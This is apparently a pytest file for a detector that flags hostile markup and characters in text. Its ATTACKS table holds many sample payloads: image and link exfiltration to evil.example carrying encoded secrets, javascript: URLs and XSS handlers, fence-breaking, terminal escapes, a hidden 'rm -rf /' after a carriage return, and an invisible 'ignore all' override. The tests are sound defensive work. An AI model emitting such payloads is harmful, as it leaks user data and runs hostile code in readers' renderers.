"""What acts when it is shown, by the name of the attack; and what does not."""

from __future__ import annotations

import pytest

from ringwall.detectors.links import Hosts
from ringwall.detectors.markup import KINDS, LOOKBACK, find, held, looks_back

HOSTS = Hosts(("docs.example.com", "*.cdn.example"))
RENDERED = frozenset({"mermaid", "html", "svg"})
DATA = "c2VjcmV0OiB0aGUgY2FyZCBpcyA0MTEx"

ATTACKS: dict[str, tuple[str, ...]] = {
    "image": (
        "![x](https://evil.example/p.png)",
        f"![](https://evil.example/?q={DATA})",
        "![x](<https://evil.example/p.png>)",
        "![x]( https://evil.example/p.png 'a title' )",
        "![x](//evil.example/p.png)",
        "![x](\\\\evil.example/p.png)",
        "![x](/\\evil.example/p.png)",
        "![x](https:evil.example/p.png)",
        "![x](HTTPS://EVIL.EXAMPLE/p.png)",
        "![x](https&#58;//evil.example/p.png)",
        "![x](https\\://evil.example/p.png)",
        "![x](https://docs.example.com@evil.example/p.png)",
        "![x](https://docs.example.com.evil.example/p.png)",
        "![x](https://evil.example\\@docs.example.com/p.png)",
        "![x](https://docs.example.com/r?to=https://evil.example/p)",
        "![x](https://docs.example.com/r?to=%2568ttps%253A%252F%252Fevil.example)",
        "![x](http://docs\u3002example\u3002com.evil.example/p)",
        "![a [nested] label](https://evil.example/p.png)",
        "![a `]` label](https://evil.example/p.png)",
        "![a \\] label](https://evil.example/p.png)",
        "[![x](https://evil.example/p.png)](https://docs.example.com)",
        "![x\ny](https://evil.example/p.png)",
        "![x](\nhttps://evil.example/p.png)",
        "![x][ref]",
        "![ref]",
        "![" + "long " * 120 + "](https://evil.example/p.png)",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "![x](blob:https://docs.example.com/1)",
        "<img src=https://evil.example/p.png>",
        "<IMG\nSRC='https://evil.example/p.png'>",
        "<img/src=https://evil.example/p.png>",
        "<img srcset='https://evil.example/p.png 2x'>",
        "<img src=x onerror=alert(1)",
    ),
    "data_link": (
        f"[more](https://evil.example/?q={DATA})",
        f"https://evil.example/{DATA}",
        f"<https://evil.example/?q={DATA}>",
        f"www.evil.example/?q={DATA}",
        f"https://{DATA.lower()}.evil.example/",
        f"[a]: https://evil.example/?q={DATA}",
        f"[a](https://{DATA}@evil.example/)",
        f"[a](mailto:x@evil.example?subject={DATA})",
        f"[a](https://evil.example/a#{DATA})",
        "[a](https://evil.example/4111/1111/1111/1111/4242/4242/4242/4242)",
        "https://evil.example/" + "a/" * 2000,
    ),
    "active_url": (
        "[a](javascript:alert(1))",
        "[a](JaVaScRiPt:alert(1))",
        "[a](java\tscript:alert(1))",
        "[a](javascript&colon;alert(1))",
        "[a](javascript\\:alert(1))",
        "[a](&#x6A;avascript:alert(1))",
        "[a](\x01javascript:alert(1))",
        "[a](vbscript:msgbox)",
        "[a](data:text/html;base64,PHNjcmlwdD4=)",
        "[a](file:///etc/passwd)",
        "[a](ms-msdt:/id)",
        "[a](<javascript:alert(1)>)",
        "<javascript:alert(1)>",
        "[a]: javascript:alert(1)",
        "[a]:\n  <javascript:alert(1)>",
    ),
    "misleading_link": (
        "[https://bank.example](https://evil.example)",
        "[bank.example](https://evil.example)",
        "[www.bank.example/login](http://bank.example.evil.example)",
    ),
    "raw_html": (
        "<script>fetch('//evil.example')</script>",
        "<ScRiPt src=//evil.example>",
        "<iframe srcdoc='<script>'>",
        "<svg/onload=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x>",
        "<math><maction actiontype=statusline>",
        "<style>@import url(//evil.example)</style>",
        "<link rel=stylesheet href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href=//evil.example>",
        "<a href=//evil.example>click</a>",
        "<a\nhref='javascript:alert(1)'>click</a>",
        "<b onmouseover=alert(1)>hi</b>",
        "<b title='>' onclick=alert(1)>hi</b>",
        "<div style='background:url(//evil.example)'>",
        "<div style=\"background-image: url('//evil.example')\">",
        "<x-y onclick=alert(1)>",
        "<x;y onclick = alert(1)>",
        "<video poster=//evil.example>",
        "<form action=//evil.example><input name=q>",
        "<button formaction=javascript:alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<p id=config>",
        "<textarea>",
        "<b " + "a " * 600 + "onclick=alert(1)>",
        "<!--<script>-->",
        "<!DOCTYPE html>",
        "<![CDATA[x]]>",
        "<?xml version='1.0'?>",
        "</script>",
    ),
    "fence_breaking": (
        "\n```python\nx\n```\n<script>alert(1)</script>\n```\n",
        "\n```python\nx\n~~~\n<script>alert(1)</script>\n```\n",
        "\n````python\n```\n<script>alert(1)</script>\n````\n",
        "\n```python\n> ```\n<script>alert(1)</script>\n```\n",
        "\n```python <script>alert(1)</script>\n",
        "\n ```python\n<script>alert(1)</script>\n```\n",
        "\n```\n<script>alert(1)</script>\n```\n",
        "\n```html\n<script>alert(1)</script>\n```\n",
        "\n``` svg\n<svg onload=alert(1)>\n```\n",
    ),
    "code_span_breaking": (
        "a ` b `<script>` c",
        "a ` b\n`<script>` c",
        "\\`<script>`",
        "| ` | <script> | ` |",
        "<b title='`'><script>`x`</b>",
        "``a` <script> `b``<script>",
    ),
    "active_fence": (
        '\n```mermaid\ngraph TD\n  click A "https://docs.example.com"\n```\n',
        "\n```mermaid\n%%{init: {'securityLevel': 'loose'}}%%\n```\n",
    ),
    "active_in_a_drawn_fence": ('\n```mermaid\nA["<img src=x onerror=alert(1)>"]\n```\n',),
    "terminal_escape": (
        "\x1b[31mred\x1b[0m",
        "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
        "\x1b]52;c;ZXZpbA==\x07",
        "\x1bP1$r\x1b\\",
        "\x1b[2J\x1b[1;1H",
        "\x9b31mred",
        "\x9d8;;https://evil.example\x9cclick",
        "\x1bc",
        "\x1b]0;" + "t" * 600,
    ),
    "control_character": ("rm -rf\x08\x08\x08\x08\x08\x08ls", "safe\rrm -rf /", "a\x00b", "\x7f", "\x0e"),
    "bidi_control": ("access \u202e// admin\u202c", "a\u2066b\u2069"),
    "invisible_text": (
        "a" + "".join(chr(0xE0000 + ord(each)) for each in "ignore all") + "b",
        "a\u200b\u200c\u200b\u200d\u200bb",
        "a" + "".join(chr(0xFE00 + each) for each in (6, 8, 6, 9, 7)) + "b",
    ),
}
"""Attacks, each holding something that must be found; the key says what, or how it is smuggled."""

ORDINARY = (
    "Thank you for the report. We'd like to know how it's going: well, I hope!",
    "Use `<script>` and `<style>` tags, or `List<Object>` in Java; if a < b and c > d then stop.",
    "## Steps\n\n1. Install **it**\n2. Read [the guide](https://docs.example.com/start?page=2)\n3. Done!",
    "It is at https://www.python.org/downloads/release/python-3110/ (see there).",
    "See [this](https://www.youtube.com/watch?v=dQw4w9WgXcQ), [that](https://de.wikipedia.org/wiki/Zürich#Geschichte).",
    "[www.python.org](https://www.python.org/) or [python.org](https://docs.python.org/3/).",
    "Commit https://github.com/a/b/commit/9fceb02d0ae598e95dc970b74767f19372d61af8 mends it.",
    "[the menu](/shop/menu?page=2#drinks), [top](#top), [mail us](mailto:help@shop.example).",
    '<b>Bold</b>, <br>, a line<br/>and H<sub>2</sub>O; <table><tr><td align="left">1</td></tr></table>',
    "Replace <your-api-key> and <name@example.com>; std::vector<int> v; Map<String, List<Integer>> m;",
    "```python\nhtml = '<script>alert(1)</script>'\nprint(f\"![a](https://evil.example/{x})\")\n```\nThat is all.",
    "```js\nfetch('https://api.shop.example/v1/items?cursor=abcdefghijklmnopqrstuvwxyz0123456789')\n```",
    "| a | b |\n|---|---|\n| 1 | `x` |\n\n- [ ] to do\n- [x] done [1]\n\n[1]: https://www.example.org/notes",
    "Family: 👨\u200d👩\u200d👧, heart: ❤️, flag:"
    " \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f.",
    "می\u200cخواهم. שלום\u200f! col1\tcol2\r\nnext line\r\n",
    "Ratio 3:4, C:\\temp, see note [2]: it holds. a[0] = b[1]; x = !y; wow!",
    "$E = mc^2$ and `a ` b`` are fine; ** bold ** too.",
    '{"answer": [1, 2, 3], "url": "https://docs.example.com/a?b=1"}',
)


@pytest.mark.parametrize(("name", "text"), [(name, text) for name, texts in ATTACKS.items() for text in texts])
def test_an_attack_is_found(name: str, text: str) -> None:
    found = find(text, HOSTS, RENDERED)
    kinds = {each.kind for each in found} - {"link"}
    assert kinds if name not in KINDS else name in kinds, (name, text, found)


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_holds_no_more_than_links(text: str) -> None:
    assert {each.kind for each in find(text, HOSTS, RENDERED)} <= {"link"}


@pytest.mark.parametrize("text", [text for texts in ATTACKS.values() for text in texts])
def test_a_finding_does_not_depend_on_what_stands_far_away(text: str) -> None:
    prose = "Nothing to see in these words, so go on.\n\n" * 160
    near = find(f"{prose}{text}\n\n", HOSTS, RENDERED)
    alone = find(f"\n\n{text}\n\n", HOSTS, RENDERED)
    shift = len(prose) - 2
    assert [(each.kind, each.start - shift, each.end - shift) for each in near] == [
        (each.kind, each.start, each.end) for each in alone
    ]


def test_only_what_is_asked_for_is_looked_for_from_where_it_is_asked() -> None:
    text = "<script> https://a.example <script>"
    assert [each.start for each in find(text, HOSTS, RENDERED, start=1, kinds={"raw_html"})] == [27]


@pytest.mark.parametrize("text", [*ORDINARY, *(text for texts in ATTACKS.values() for text in texts)])
def test_a_place_that_was_chosen_is_chosen_again(text: str) -> None:
    for cut in range(len(text) + 1):
        tail = f"Once more.\n\n{text[:cut]}"
        size = held(tail)
        assert 0 <= size <= LOOKBACK
        assert size == LOOKBACK or held(tail[: len(tail) - size]) == 0


def test_code_that_goes_on_is_remembered_and_code_that_ended_is_not() -> None:
    fenced = "Look:\n\n```python\n" + "x = 1\n" * 300
    assert looks_back(fenced) == len(fenced) - 6
    assert looks_back(f"{fenced}```\n" + "so it is.\n" * 60) == 512
